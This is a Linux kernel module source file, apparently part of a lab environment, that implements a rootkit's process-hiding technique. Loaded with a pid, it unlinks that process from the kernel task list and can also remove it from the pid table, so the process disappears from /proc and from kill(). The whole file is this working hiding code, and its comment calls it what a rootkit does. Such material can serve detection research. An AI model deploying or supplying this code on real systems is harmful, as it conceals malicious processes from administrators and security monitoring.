// SPDX-License-Identifier: Apache-2.0
// lab/guest/modules/hide.c: what a rootkit does: insmod hide.ko pid=N takes a process out of the list of all tasks, and
// with from_table=1 also out of the table of pids, where /proc and kill() look. It runs on, and may exit: both are
// removals that the kernel does again without harm.
#include <linux/idr.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/stop_machine.h>

static int pid;
static bool from_table;
module_param(pid, int, 0);
module_param(from_table, bool, 0);

// The locks of both are the kernel's own, so it is done while all other CPUs stand still.
static int hide_task(void *task) {
  list_del_init(&((struct task_struct *)task)->tasks);
  if (from_table) idr_remove(&init_pid_ns.idr, pid);
  return 0;
}

static int __init hide(void) {
  struct pid *found = find_get_pid(pid);
  struct task_struct *task = get_pid_task(found, PIDTYPE_TGID);

  put_pid(found);
  if (!task) return -ESRCH;
  stop_machine(hide_task, task, NULL);
  put_task_struct(task);
  return 0;
}

static void __exit leave(void) {}  // without one it could not be loaded for the next process

module_init(hide);
module_exit(leave);
MODULE_DESCRIPTION("Hides a process of the lab");
MODULE_LICENSE("GPL");
